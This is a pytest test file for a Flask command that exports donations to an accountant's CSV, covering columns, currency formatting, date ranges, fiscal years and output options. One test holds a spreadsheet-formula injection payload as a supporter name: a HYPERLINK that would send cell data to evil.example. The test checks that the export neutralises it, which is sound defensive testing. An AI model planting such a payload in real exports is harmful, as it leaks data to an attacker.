"""`flask export donations`: the accountant's CSV of donations paid in a period, booked through the webhook."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest
from sqlalchemy import select

from donations.checkout.validation import clean_name
from donations.extensions import db
from donations.ledger.models import Donation
from tests.factories import checkout_session, event, make_attempt, post_event

HEADER = (
    "donation_id,paid_at,supporter_email,supporter_name,amount,currency,fee,net,frequency,status,"
    "amount_refunded,campaign,article_url,stripe_payment_intent,stripe_invoice,stripe_subscription,receipt_number,"
    "payout_id,settlement_currency,exchange_rate,booked_on,note"
)


def paid_donation(client, paid_at: datetime, **attempt) -> Donation:
    """A gift booked the real way: an attempt, then Stripe's signed checkout.session.completed."""
    made = make_attempt(**attempt)
    db.session.commit()
    session = checkout_session(made)
    response = post_event(client, event("checkout.session.completed", session, created=int(paid_at.timestamp())))
    assert response.status_code == 200, response.get_data(as_text=True)
    donation = db.session.scalars(select(Donation).where(Donation.stripe_checkout_session_id == session["id"])).one()
    assert donation.stripe_payment_intent_id == session["payment_intent"]
    return donation


def export(app, *args: str):
    return app.test_cli_runner().invoke(args=["export", "donations", *args])


def rows(result) -> list[dict[str, str]]:
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def utc(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=timezone.utc)


def test_export_has_the_accountants_columns_in_order(app_ctx, client):
    paid_donation(client, utc(2026, 3, 10, 12, 0, 0))

    result = export(app_ctx, "--from", "2026-03-01", "--to", "2026-03-31", "--format", "csv")

    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0] == HEADER


def test_export_row_shows_the_donation_as_booked(app_ctx, client):
    donation = paid_donation(client, utc(2026, 3, 10, 14, 30, 5), amount=2500, currency="EUR",
                             email="Ada@Example.com", name="Ada Reader")

    [row] = rows(export(app_ctx, "--from", "2026-03-01", "--to", "2026-03-31"))

    assert row == {
        "donation_id": str(donation.id),
        "paid_at": "2026-03-10T14:30:05Z",
        "supporter_email": "ada@example.com",
        "supporter_name": "Ada Reader",
        "amount": "25.00",
        "currency": "EUR",
        "fee": "",  # Stripe's fee is unknown until the balance transaction exists
        "net": "",
        "frequency": "one_off",
        "status": "succeeded",
        "amount_refunded": "0.00",
        "campaign": "default",
        "article_url": "https://publisher.example/news/1",
        "stripe_payment_intent": donation.stripe_payment_intent_id,
        "stripe_invoice": "",
        "stripe_subscription": "",
        "receipt_number": donation.receipt_number,
        "payout_id": "",  # not paid out yet
        "settlement_currency": "",
        "exchange_rate": "",
        "booked_on": "2026-03-10",
        "note": "",
    }
    assert donation.receipt_number.startswith("2026-")


def test_jpy_amounts_are_exported_without_decimals(app_ctx, client, monkeypatch):
    monkeypatch.setitem(app_ctx.config, "CURRENCIES", [*app_ctx.config["CURRENCIES"], "JPY"])
    paid_donation(client, utc(2026, 3, 10, 9, 0, 0), amount=2500, currency="JPY")

    [row] = rows(export(app_ctx, "--from", "2026-03-10", "--to", "2026-03-10"))

    assert (row["amount"], row["currency"], row["amount_refunded"]) == ("2500", "JPY", "0")


def test_export_covers_whole_utc_days_from_first_to_last_inclusive(app_ctx, client):
    before = paid_donation(client, utc(2026, 2, 28, 23, 59, 59), email="before@example.com")
    first = paid_donation(client, utc(2026, 3, 1, 0, 0, 0), email="first@example.com")
    last = paid_donation(client, utc(2026, 3, 31, 23, 59, 59), email="last@example.com")
    after = paid_donation(client, utc(2026, 4, 1, 0, 0, 0), email="after@example.com")

    exported = rows(export(app_ctx, "--from", "2026-03-01", "--to", "2026-03-31"))

    assert [r["donation_id"] for r in exported] == [str(first.id), str(last.id)]  # oldest first
    assert {before.id, after.id}.isdisjoint(int(r["donation_id"]) for r in exported)


def test_period_without_donations_exports_only_the_header(app_ctx, client):
    paid_donation(client, utc(2026, 3, 10, 12, 0, 0))

    result = export(app_ctx, "--from", "2025-01-01", "--to", "2025-12-31")

    assert result.exit_code == 0, result.output
    assert result.stdout == HEADER + "\n"


def test_output_option_writes_the_csv_to_a_file(app_ctx, client, tmp_path):
    donation = paid_donation(client, utc(2026, 3, 10, 12, 0, 0))
    target = tmp_path / "donations-2026-03.csv"

    result = export(app_ctx, "--from", "2026-03-01", "--to", "2026-03-31", "--output", str(target))

    assert result.exit_code == 0, result.output
    assert result.stdout == ""  # nothing on stdout: it could be piped elsewhere
    assert f"wrote 1 donations to {target}" in result.stderr
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[0] == HEADER
    assert [row["donation_id"] for row in csv.DictReader(lines)] == [str(donation.id)]


@pytest.mark.parametrize(("args", "message"), [
    (["--from", "2026-13-01", "--to", "2026-12-31"], "'2026-13-01' is not a date in the form YYYY-MM-DD"),
    (["--from", "2026-03-01", "--to", "31.03.2026"], "'31.03.2026' is not a date in the form YYYY-MM-DD"),
    (["--from", "2026-03-31", "--to", "2026-03-01"], "Invalid value for --to: the last day is before the first"),
    (["--to", "2026-03-31"], "Missing option '--from'"),
    (["--from", "2026-03-01", "--to", "2026-03-31", "--format", "pdf"], "'pdf' is not one of"),
])
def test_bad_arguments_exit_with_a_usage_error_and_no_traceback(app_ctx, args, message):
    result = export(app_ctx, *args)

    assert result.exit_code == 2
    assert message in result.output
    assert "Traceback" not in result.output
    assert result.stdout == ""  # no partial CSV


def test_supporter_name_cannot_become_a_spreadsheet_formula(app_ctx, client):
    name = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    assert clean_name(name) == name  # the donation form accepts it
    paid_donation(client, utc(2026, 3, 10, 12, 0, 0), name=name)

    [row] = rows(export(app_ctx, "--from", "2026-03-01", "--to", "2026-03-31"))

    assert name in row["supporter_name"]
    assert not row["supporter_name"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_fiscal_year_exports_april_to_march(app_ctx, client, monkeypatch):
    monkeypatch.setitem(app_ctx.config, "FISCAL_YEAR_START_MONTH", 4)
    inside = [paid_donation(client, utc(2026, 4, 1, 0, 0, 0)), paid_donation(client, utc(2027, 3, 31, 23, 59, 59))]
    paid_donation(client, utc(2026, 3, 31, 23, 59, 59))
    paid_donation(client, utc(2027, 4, 1, 0, 0, 0))

    exported = rows(export(app_ctx, "--fiscal-year", "2026"))

    assert [int(row["donation_id"]) for row in exported] == [d.id for d in inside]


def test_fiscal_year_and_dates_together_are_refused(app_ctx):
    result = export(app_ctx, "--fiscal-year", "2026", "--from", "2026-01-01")

    assert result.exit_code == 2 and "not both" in result.output


def test_bom_for_excel_starts_the_csv(app_ctx, client, tmp_path):
    paid_donation(client, utc(2026, 3, 10, 12, 0, 0))
    path = tmp_path / "q.csv"

    result = export(app_ctx, "--from", "2026-03-01", "--to", "2026-03-31", "--bom", "--output", str(path))

    assert result.exit_code == 0
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfdonation_id,")
    assert path.read_text(encoding="utf-8-sig").splitlines()[0] == HEADER
